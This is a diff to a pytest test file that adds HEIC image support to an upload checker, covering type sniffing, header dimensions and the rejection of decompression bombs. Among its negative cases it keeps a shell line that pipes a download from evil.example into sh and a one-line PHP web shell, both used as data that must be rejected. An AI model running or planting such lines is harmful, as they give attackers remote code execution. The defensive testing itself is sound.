@@ -6,6 +6,7 @@ import io
 import struct
 import zlib
 
+import pillow_heif
 import pytest
 from PIL import Image
 
@@ -19,6 +20,24 @@ from services.media_storage.media.checks import (
 )
 
 MB = 1024 * 1024
+pillow_heif.register_heif_opener()  # to write HEIC test files
+
+
+def ispe(width: int, height: int) -> bytes:
+    """A HEIF image spatial extents box (a full box: version and flags, width, height)."""
+    return struct.pack(">I4sIII", 20, b"ispe", 0, width, height)
+
+
+def boxed(kind: bytes, body: bytes) -> bytes:
+    return struct.pack(">I", 8 + len(body)) + kind + body
+
+
+def heic_declaring(*sizes: tuple[int, int], brands: bytes = b"heicmif1") -> bytes:
+    """The boxes of a HEIC up to its images' extents (ftyp, meta > iprp > ipco > ispe)."""
+    ftyp = boxed(b"ftyp", brands[:4] + b"\0\0\0\0" + brands)
+    ipco = boxed(b"ipco", b"".join(ispe(w, h) for w, h in sizes))
+    meta = boxed(b"meta", b"\0\0\0\0" + boxed(b"hdlr", b"\0" * 24) + boxed(b"iprp", ipco))
+    return ftyp + meta + boxed(b"mdat", b"\0" * 64)
 
 
 def encoded(fmt: str, size: tuple[int, int], **options: object) -> bytes:
@@ -50,6 +69,9 @@ def png_header_only(width: int, height: int) -> bytes:
         (encoded("JPEG", (8, 8)), ImageType.JPEG),
         (encoded("PNG", (8, 8)), ImageType.PNG),
         (encoded("WEBP", (8, 8)), ImageType.WEBP),
+        (encoded("HEIF", (8, 8)), ImageType.HEIC),
+        (heic_declaring((8, 8), brands=b"mif1heic"), ImageType.HEIC),
+        (heic_declaring((8, 8), brands=b"avifmif1"), None),  # AV1, not HEVC
         (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", None),
         (b"<?php system($_GET['c']); ?>", None),
         (b"GIF89a" + b"\0" * 20, None),
@@ -70,13 +92,24 @@ def test_type_comes_from_the_magic_bytes(data: bytes, expected: ImageType | None
         ("PNG", {}),
         ("WEBP", {}),  # VP8 (lossy)
         ("WEBP", {"lossless": True}),  # VP8L
+        ("HEIF", {}),
     ],
 )
 def test_dimensions_are_read_from_the_header(fmt: str, options: dict[str, object]) -> None:
-    data = encoded(fmt, (1234, 567), **options)
+    data = encoded(fmt, (1234, 568), **options)
     kind = sniff(data)
     assert kind is not None
-    assert header_size(data, kind) == (1234, 567)
+    assert header_size(data, kind) == (1234, 568)
+
+
+def test_a_heic_is_as_large_as_its_largest_image() -> None:
+    # A phone's HEIC: a 320 px thumbnail, the 4032 × 3024 primary, a smaller depth map.
+    data = heic_declaring((320, 240), (4032, 3024), (768, 576))
+    assert header_size(data, ImageType.HEIC) == (4032, 3024)
+    bomb = heic_declaring((320, 240), (50_000, 50_000))
+    with pytest.raises(Rejected) as refused:
+        check(bomb, max_bytes=10 * MB, max_pixels=40_000_000)
+    assert refused.value.reason is RejectReason.TOO_MANY_PIXELS
 
 
 def test_extended_webp_and_jpeg_with_an_exif_thumbnail_report_the_main_image() -> None:
@@ -115,6 +148,8 @@ def test_a_decompression_bomb_is_refused_from_its_header() -> None:
         (b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR", RejectReason.UNREADABLE),  # truncated
         (png_header_only(0, 10), RejectReason.UNREADABLE),
         (b"RIFF\0\0\0\0WEBPVP8 " + b"\0" * 20, RejectReason.UNREADABLE),  # no start code
+        (heic_declaring(), RejectReason.UNREADABLE),  # no extents at all
+        (heic_declaring((640, 480))[:40], RejectReason.UNREADABLE),  # a box cut short
         (b"\xff\xd8\xff" + b"\0" * (2 * MB), RejectReason.TOO_LARGE),
     ],
 )
